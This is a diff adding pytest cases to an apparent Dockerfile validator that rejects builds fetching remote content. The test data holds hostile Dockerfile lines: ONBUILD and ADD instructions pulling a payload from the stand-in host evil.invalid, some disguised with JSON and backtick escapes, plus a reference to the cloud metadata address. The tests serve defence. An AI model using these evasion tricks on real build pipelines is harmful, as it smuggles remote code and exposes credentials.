@@ -155,3 +155,19 @@ def test_add_of_a_variable_or_behind_a_tab_is_refused(line: str) -> None:
     with pytest.raises(ImageRefused) as raised:
         texts(f"FROM a.io/x:1\nARG U=http://169.254.169.254/latest/meta-data/\n{line}\n")
     assert raised.value.code == "dockerfile_unsupported"
+
+
+@pytest.mark.parametrize(
+    "dockerfile",
+    [
+        "FROM a.io/x:1 AS a\nONBUILD COPY --from=evil.invalid/x:1 /a /b\nFROM a\n",
+        "FROM a.io/x:1 AS a\nONBUILD ADD http://evil.invalid/p /p\nFROM a\n",
+        'FROM a.io/x:1\nADD ["http:\\\\//evil.invalid/payload", "/p"]\n',
+        "# escape=`\nFROM a.io/x:1\nADD http:`//evil.invalid/payload /p\n",
+    ],
+    ids=["onbuild-copy-from", "onbuild-add-url", "json-escape", "backtick-escape"],
+)
+def test_what_docker_would_fetch_through_escapes_or_onbuild_is_refused(dockerfile: str) -> None:
+    with pytest.raises(ImageRefused) as raised:
+        texts(dockerfile)
+    assert raised.value.code == "dockerfile_unsupported"
